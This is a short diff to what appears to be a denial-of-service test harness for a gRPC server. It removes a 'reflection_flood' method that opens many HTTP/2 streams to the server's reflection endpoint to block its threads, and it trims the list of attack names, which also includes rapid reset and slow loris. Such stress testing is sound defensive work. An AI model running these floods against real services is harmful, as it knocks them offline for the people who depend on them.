@@ -184,23 +184,6 @@ class Attacker:
             connection.close()
         self.repeat(once)
 
-    def reflection_flood(self):
-        """Opens calls of the reflection service, each of which blocks a thread of the server."""
-        def once():
-            connections = [self.connect() for _ in range(20)]
-            for connection in connections:
-                for _ in range(30):
-                    stream = connection.next_stream
-                    connection.next_stream += 2
-                    block = request_headers("x").replace(
-                        literal(b":path", b"/ps.ParameterServer/x"),
-                        literal(b":path", b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"))
-                    connection.send(frame(HEADERS, 4, stream, block))
-                    self.note("streams")
-            while self.going():
-                time.sleep(0.1)
-        self.repeat(once)
-
     # ---- Slow connections ----
 
     def slow_loris(self):
@@ -376,7 +359,7 @@ def table():
 
 TABLE = table()
 ATTACKS = ("garbage", "oversize_message", "oversize_messages", "oversize_headers", "many_headers", "stream_flood",
-           "rapid_reset", "reflection_flood", "slow_loris", "connection_flood", "hostile_calls")
+           "rapid_reset", "slow_loris", "connection_flood", "hostile_calls")
 CONTROL = "bystander"
 
 
